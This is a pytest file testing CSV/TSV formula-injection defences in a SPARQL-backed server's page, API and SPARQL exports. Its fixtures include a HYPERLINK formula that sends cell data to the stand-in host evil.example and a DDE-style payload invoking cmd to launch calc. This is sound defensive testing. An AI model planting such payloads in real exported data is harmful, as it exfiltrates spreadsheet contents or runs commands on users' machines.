"""CSV formula injection (OWASP): no CSV or TSV the server writes has a cell that a spreadsheet
would run as a formula. Text starting with =, +, -, @, tab or carriage return gets a leading
single quote and is quoted; plain numbers stay exact. Checked on every writer: the pages
(/mal?format=csv), the named queries (/api/v1/queries/…?format=csv) and /sparql CSV and TSV."""
from __future__ import annotations

import csv
import io

import httpx
import pyoxigraph as ox
import pytest

from server import running_server
from styrgraf.api.csvsafe import csv_cell, neutralise
from conftest import keep_merge

SG = "https://w3id.org/styrgraf/ns#"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize("text, safe", [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("+", "'+"),
    ("-5", "-5"), ("+3.2", "+3.2"), ("1e-3", "1e-3"), ("-1.5E+10", "-1.5E+10"), ("-.5", "-.5"),
    ("text", "text"), ("", ""), ("a=1", "a=1"), ("2024-01-01", "2024-01-01"),
])
def test_neutralise(text, safe):
    assert neutralise(text) == safe


def test_csv_cell_quotes_what_it_neutralises_and_separators():
    assert csv_cell("=1+2") == '"\'=1+2"'
    assert csv_cell("-5") == "-5"
    assert csv_cell('a "b", c') == '"a ""b"", c"'
    assert csv_cell("a;=1+1") == '"a;=1+1"'      # Swedish Excel splits on ';'


@pytest.fixture(scope="module")
def base(corpus_store_copy):
    """The corpus with two goals whose text a spreadsheet would run, one that is a number."""
    store = ox.Store(str(corpus_store_copy))
    goals = sorted({r["g"].value for r in store.query(f"SELECT ?g WHERE {{ GRAPH ?d {{ ?g a <{SG}Goal> }} }}")})
    for goal, text in zip(goals, (FORMULA, AT, "-5")):
        store.update(f"DELETE {{ GRAPH ?d {{ <{goal}> <{SG}statement> ?t }} }} "
                     f"INSERT {{ GRAPH ?d {{ <{goal}> <{SG}statement> {ox.Literal(text)} }} }} "
                     f"WHERE {{ GRAPH ?d {{ <{goal}> <{SG}statement> ?t }} }}")
    keep_merge(store)
    store.flush()
    del store
    with running_server(corpus_store_copy) as url:
        yield url


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def check_csv(text: str) -> None:
    values = cells(text)
    assert "'" + FORMULA in values and "'" + AT in values, values
    assert "-5" in values                                     # a number stays a number
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in values)
    assert not any(v.startswith("-") and v != "-5" for v in values)
    assert '"\'=HYPERLINK(' in text                            # quoted as well


@pytest.mark.parametrize("path", ["/mal?format=csv", "/api/v1/queries/goals?format=csv"])
def test_page_and_api_csv(base, path):
    r = httpx.get(base.rstrip("/") + path, timeout=60)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv"), r.text[:300]
    check_csv(r.text)


STATEMENTS = f"SELECT ?t WHERE {{ ?g <{SG}statement> ?t }}"


def test_sparql_csv(base):
    r = httpx.get(base + "sparql", params={"query": STATEMENTS, "format": "csv"}, timeout=60)
    assert r.status_code == 200
    check_csv(r.text)


def test_sparql_tsv(base):
    r = httpx.get(base + "sparql", params={"query": STATEMENTS}, headers={"Accept": "text/tab-separated-values"},
                  timeout=60)
    assert r.status_code == 200
    lines = r.text.split("\n")
    assert lines[0] == "?t"
    assert '"\'' + FORMULA.replace('"', '\\"') + '"' in lines
    assert '"\'' + AT + '"' in lines
    assert '"-5"' in lines


def test_sparql_numbers_stay_exact(base):
    """Numbers are written as the engine writes them; only text that starts a formula changes."""
    query = 'SELECT (-5 AS ?a) (+3.2 AS ?b) (-1e-3 AS ?c) ("-x" AS ?d) ("+1" AS ?e) (<http://ex/=> AS ?f) {}'
    for fmt, kind in (("csv", ox.QueryResultsFormat.CSV), ("tsv", ox.QueryResultsFormat.TSV)):
        engine = ox.Store().query(query).serialize(format=kind).decode().split("\n")[1]
        r = httpx.get(base + "sparql", params={"query": query, "format": fmt}, timeout=60)
        sep = "," if fmt == "csv" else "\t"
        ours, theirs = r.text.split("\n")[1].split(sep), engine.split(sep)
        assert ours[:3] + ours[4:] == theirs[:3] + theirs[4:] and ours[0] == "-5", (ours, theirs)
        assert ours[3] == '"\'-x"', ours             # CSV: quoted; TSV: the literal's text
